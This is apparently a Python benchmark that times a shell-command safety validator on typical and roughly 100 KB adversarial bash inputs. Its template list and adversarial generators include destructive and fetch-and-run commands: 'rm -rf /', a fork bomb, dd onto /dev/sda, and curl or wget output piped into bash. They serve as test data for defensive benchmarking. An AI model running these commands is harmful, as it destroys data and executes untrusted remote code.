"""Benchmark of the safety validator: typical commands, with and without asking bash, and 100 KB attacks.

Prints, per typical command (10,000 drawn from templates), the median and p99 microseconds of
`parse_script` alone (the floor: tree-sitter and the walk), of `assess` without the bash
oracle, and of `assess` with it (bash is asked only about text that is not plain, and only when
the verdict is not already blocked). The cost of one bash call is printed beside them. Then
each 100 KB adversarial input (8,000 function definitions among them) with its time.
Run: python bench/bench_safety.py
"""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Callable

from pipeline.safety import RuleSet, assess, default_rules_path
from pipeline.shell import parse_script
from pipeline.safety.faithful import is_plain
from pipeline.shell.oracle import _cached as oracle_cache
from pipeline.shell.oracle import available, bash_reading
from pipeline.values import SafetyLevel, Shell

TEMPLATES = [
    "ls -la {d}", "ls -lh {d} | sort -k5 -h", "find {d} -name '*.{ext}' -type f", "find . -type f -mtime -{n} -size +{n}M",
    "grep -rn '{word}' {d} --include='*.{ext}'", "grep -c {word} {f} | wc -l", "git status", "git log --oneline -{n}",
    "git diff --staged {f}", "git checkout -b feature-{n}", "git push origin feature-{n}", "git stash && git pull --rebase",
    "docker ps -a --filter status=exited", "docker logs -f --tail {n} web", "docker run --rm -it -v $(pwd):/app python:3.11 bash",
    "du -sh {d}/* | sort -rh | head -{n}", "ps aux --sort=-%mem | head -{n}", "ps -ef | grep '[p]ython' | awk '{{print $2}}'",
    "curl -fsSL https://api.example.com/v1/items?page={n} | jq '.items[]'", "curl -O https://example.com/file-{n}.tar.gz",
    "tar -czf backup-{n}.tar.gz {d}", "tar -xzf archive.tar.gz -C {d}", "sed -i 's/{word}/new/g' {f}", "awk -F, '{{sum += $3}} END {{print sum}}' {f}",
    "cat {f} | sort | uniq -c | sort -rn | head", "wc -l $(git ls-files '*.{ext}')", "xargs -n1 echo < {f}", "chmod 644 {f}",
    "cp -r {d} {d}.bak", "mv {f} {f}.old", "rm {f}", "rm -rf ./build", "mkdir -p {d}/sub && cd {d}/sub", "kill {n}",
    "sudo apt update && sudo apt install -y jq", "for f in *.{ext}; do echo \"$f\"; done", "echo \"$HOME/{f}\" >> list.txt",
    # some dangerous ones
    "rm -rf /", "sudo rm -rf /*", "curl -s http://x.sh | sudo bash", ":(){{ :|:& }};:", "dd if=/dev/zero of=/dev/sda bs=4M",
    "chmod -R 777 /", "find / -name '*.log' -exec rm -f {{}} \\;", "bash -c \"$(wget -qO- http://x)\"",
]
WORDS = ["error", "TODO", "main", "config", "user"]
DIRS = [".", "src", "/var/log", "~/projects", "./data", "logs"]
EXTS = ["py", "rs", "log", "txt", "json"]
FILES = ["app.log", "data.csv", "README.md", "config.yaml", "notes.txt"]


def commands(count: int, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    return [
        rng.choice(TEMPLATES).format(d=rng.choice(DIRS), ext=rng.choice(EXTS), word=rng.choice(WORDS), f=rng.choice(FILES), n=rng.randint(1, 500))
        for _ in range(count)
    ]


def adversarial() -> dict[str, str]:
    """About 100 KB each: deep nesting, thousands of commands, functions, pipes, words, heredocs."""
    depth = 3000
    mixed = " ; ".join(
        [
            "echo " + "$(" * depth + "rm -rf /" + ")" * depth,
            "ls -la; " * 4000,
            "cat x | " * 4000 + "wc -l",
            "echo '" + "a" * 20000 + "'",
            "rm " + " -f" * 6000 + " x",
            'eval "' + "sh -c \\\"" * 4 + "id" + '\\"' * 4 + '"',
        ]
    )[:102_400]
    return {
        "mixed (nesting, lists, pipes, flags)": mixed,
        "8,000 function definitions": "".join(f"f{i}() {{ :; }}\n" for i in range(8000)),
        "4,200 functions calling each other": "".join(f"f{i}() {{ f{i - 1} | cat; }}\n" for i in range(1, 4200)),
        "10,000 distinct commands": "".join(f"ls a{i}; " for i in range(10_000)),
        "pipeline of 12,000 stages": "cat x | " * 12_000 + "wc",
        "heredoc of 100 KB": "cat <<'EOF'\n" + "rm -rf / line\n" * 7200 + "EOF\n",
        "sh -c of 100 KB": "sh -c '" + "ls; " * 25_000 + "'",
        "20,000 cd in a row": "cd a; " * 17_000 + "rm -rf *",
        "5,000 find -exec": "find . " + "-exec echo {} \\; " * 5000,
    }


def timed(fn: Callable[[str], object], items: list[str]) -> list[float]:
    out = []
    for item in items:
        start = time.perf_counter()
        fn(item)
        out.append((time.perf_counter() - start) * 1e6)
    return out


def summary(samples: list[float]) -> str:
    ordered = sorted(samples)
    p99 = ordered[int(len(ordered) * 0.99) - 1]
    return f"median {statistics.median(ordered):8.1f} us   p99 {p99:9.1f} us"


def main() -> None:
    rules = RuleSet.load([default_rules_path()])
    items = commands(10_000)

    def judge(command: str, oracle: bool = True) -> object:
        return assess(command, shell=Shell.BASH, level=SafetyLevel.MODERATE, rules=rules, cwd="/home/u/project", home="/home/u", oracle=oracle)

    for command in items[:200]:  # warm caches and the grammar
        judge(command, oracle=False)
    parse_times = timed(parse_script, items)
    plain_times = timed(lambda c: judge(c, oracle=False), items)
    oracle_times = timed(judge, items)
    print(f"commands:              {len(items)}")
    print(f"parse_script (floor):  {summary(parse_times)}")
    print(f"assess, no oracle:     {summary(plain_times)}")
    if available():
        print(f"assess, bash oracle:   {summary(oracle_times)}  (readings cached per text)")

        def uncached(command: str) -> object:
            oracle_cache.cache_clear()
            return judge(command)

        fresh_times = timed(uncached, items)
        asked = sum(not is_plain(c, parse_script(c)) for c in items)
        print(f"assess, oracle, fresh: {summary(fresh_times)}  ({asked / len(items):.1%} of these commands are not plain)")
        calls = timed(lambda c: bash_reading(c + " # " + str(time.perf_counter_ns())), ["ls -la $(pwd)"] * 50)
        print(f"one bash oracle call:  median {statistics.median(calls):8.1f} us (uncached)")
    else:
        print("assess, bash oracle:   bash is not available here; the oracle was not used")
    print(f"assess / parse:        {statistics.median(plain_times) / statistics.median(parse_times):.2f}x (median, no oracle)")
    for name, attack in adversarial().items():
        start = time.perf_counter()
        verdict = assess(attack, shell=Shell.BASH, level=SafetyLevel.MODERATE, rules=rules, cwd="/home/u/project", home="/home/u")
        assess_ms = (time.perf_counter() - start) * 1e3
        print(f"{name:38} {len(attack) // 1024:4d} KB  assess {assess_ms:7.1f} ms -> {verdict.risk.label}, {verdict.action.value}")


if __name__ == "__main__":
    main()
